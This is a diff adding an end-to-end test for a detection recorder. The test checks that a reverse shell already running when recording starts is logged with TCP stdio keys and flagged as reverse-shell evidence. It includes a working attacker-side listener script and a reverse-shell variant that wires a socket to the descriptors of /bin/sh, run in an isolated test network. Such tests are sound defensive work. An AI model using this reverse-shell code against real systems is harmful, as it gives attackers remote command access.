@@ -13,7 +13,10 @@ docs/FORMAT.md, "Standard descriptors at exec"): while the recorder runs,
 - the same over IPv6, and a UDP socket on stdin only;
 - stdin a Unix socket pair: `stdin=unix`, no stdio_*;
 - pipes, /dev/null, a file, and a Unix socket on stdout alone (a service's
-  journal): no keys at all.
+  journal): no keys at all;
+- the same kinds of processes already running when the recorder starts: their
+  EXISTING records have the same keys, read from /proc, and the reverse shell
+  has its evidence kept (EVIDENCE rule=reverse-shell trigger=existing).
 
 No traffic leaves the machine. Needs root. Ends with "N passed, N failed".
 Usage: tests/e2e/test_revshell.py [NAME-SUBSTRING]
@@ -168,7 +171,90 @@ def test_exec_stdio_keys():
         shutil.rmtree(log_dir, ignore_errors=True)
 
 
-TESTS = [test_exec_stdio_keys]
+# the attacker's end that holds the connection open: accepts one, says so,
+# then waits (bounded) until it is killed
+LISTENER_HOLD = r"""
+import socket, sys, time
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind((sys.argv[1], int(sys.argv[2]))); s.listen(1); s.settimeout(20)
+print("listening", flush=True)
+c, addr = s.accept()
+print("peer=%s port=%d" % (addr[0], addr[1]), flush=True)
+time.sleep(30)
+"""
+
+# the victim's end, waiting: the socket on 0, 1, 2, a shell that reads a line
+REVSHELL_WAIT = REVSHELL.replace('os.execv("/bin/sh", ["sh"])',
+                                 'os.execv("/bin/sh", ["sh", "-c", "read line"])')
+
+
+def test_existing_stdio_keys():
+    log_dir = tempfile.mkdtemp(prefix="onm-revshell-")
+    NET.up()
+    procs = []
+    try:
+        lst = subprocess.Popen(NET.exec + [PYTHON, "-c", LISTENER_HOLD, PEER4, str(PORT + 2)],
+                               stdout=subprocess.PIPE, text=True)
+        procs.append(lst)
+        if lst.stdout.readline().strip() != "listening":
+            raise AssertionError("the listener did not start")
+        shell = subprocess.Popen([PYTHON, "-c", REVSHELL_WAIT, PEER4, str(PORT + 2)])
+        procs.append(shell)
+        got = kv(lst.stdout.readline().strip())
+        if "port" not in got:
+            raise AssertionError("the shell did not connect")
+
+        def sleeper(**kw):
+            p = subprocess.Popen(["/bin/sh", "-c", "sleep 30"], **kw)
+            procs.append(p)
+            return p.pid
+        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        u.connect((PEER4, 5353))
+        udp_pid = sleeper(stdin=u.fileno(), stdout=subprocess.DEVNULL)
+        a, b = socket.socketpair()
+        unix_pid = sleeper(stdin=a.fileno(), stdout=subprocess.DEVNULL)
+        journal_pid = sleeper(stdin=subprocess.DEVNULL, stdout=a.fileno(), stderr=a.fileno())
+        pipe_pid = sleeper(stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+        for x in (u, a, b):
+            x.close()
+        rec = e2e.Recorder(log_dir)
+        log = rec.stop()
+
+        def existing(pid):
+            return one(log.find(event="EXISTING", pid=pid), "EXISTING of pid %d" % pid)
+        r = existing(shell.pid)
+        d = kv(r["detail"])
+        want = {"stdin": "tcp", "stdout": "tcp", "stderr": "tcp", "stdio_proto": "tcp",
+                "stdio_peer": "%s:%d" % (PEER4, PORT + 2),
+                "stdio_local": "%s:%s" % (HOST4, got["port"])}
+        for k, v in want.items():
+            check_eq("EXISTING reverse shell: detail %s" % k, d.get(k), v)
+        ev = one(log.find(event="EVIDENCE", guid=r["guid"]), "the reverse shell's evidence")
+        dv = kv(ev["detail"])
+        check_eq("evidence rule and trigger", (dv.get("rule"), dv.get("trigger")),
+                 ("reverse-shell", "existing"))
+        d = kv(existing(udp_pid)["detail"])
+        check_eq("EXISTING udp stdin", (d.get("stdin"), d.get("stdout"), d.get("stdio_proto"),
+                                        d.get("stdio_peer")),
+                 ("udp", "chardev", "udp", "%s:5353" % PEER4))
+        d = kv(existing(unix_pid)["detail"])
+        check_eq("EXISTING unix stdin", (d.get("stdin"), d.get("stdout"), d.get("stdio_proto")),
+                 ("unix", "chardev", None))
+        for what, pid in (("journal-like stdout", journal_pid), ("pipes", pipe_pid)):
+            d = kv(existing(pid)["detail"])
+            keys = sorted(k for k in d if k.startswith("std"))
+            check_eq("EXISTING %s: no stdio keys" % what, keys, [])
+    finally:
+        for p in procs:
+            if p.poll() is None:
+                p.kill()
+                p.wait()
+        NET.down()
+        shutil.rmtree(log_dir, ignore_errors=True)
+
+
+TESTS = [test_exec_stdio_keys, test_existing_stdio_keys]
 
 
 def main():
